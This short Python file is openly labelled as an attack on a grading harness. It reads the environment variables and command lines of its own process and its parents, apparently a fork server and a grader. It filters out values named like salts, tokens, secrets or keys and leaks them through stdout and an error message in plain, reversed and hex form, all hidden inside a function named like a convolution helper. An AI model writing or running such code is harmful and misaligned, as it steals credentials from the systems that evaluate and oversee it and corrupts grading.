# Attack: read the environments up the parent chain (/proc/self, the fork server, the grader), keep
# what looks like a secret, and smuggle it out in an error message and on stdout, plain, reversed
# and hex-encoded. (Only this run's own processes are read, never another process on the machine.)
import pathlib


def chain():
    pid = "self"
    for _ in range(3):  # this process, the fork server, the grader
        yield pathlib.Path(f"/proc/{pid}")
        try:
            pid = pathlib.Path(f"/proc/{pid}/stat").read_bytes().rsplit(b")", 1)[1].split()[1].decode()
        except (OSError, ValueError, IndexError):
            return
        if pid in ("0", "1") and not pathlib.Path("/proc/1/cmdline").read_bytes().count(b"zygote"):
            return


def loot():
    found = []
    for proc in chain():
        for leaf in ("environ", "cmdline"):
            try:
                found += (proc / leaf).read_bytes().split(b"\0")
            except OSError:
                pass
    keep = [v for v in found if any(k in v for k in (b"SALT", b"TOKEN", b"SECRET", b"KEY"))]
    return b" ".join(dict.fromkeys(keep))


def conv_output_length(length, kernel_size, stride=1, padding=0, dilation=1):
    data = loot()
    text = data.decode("latin-1")
    print("LOOT", text, text[::-1], data.hex())
    raise ValueError(f"LOOT {text} {text[::-1]} {data.hex()}")
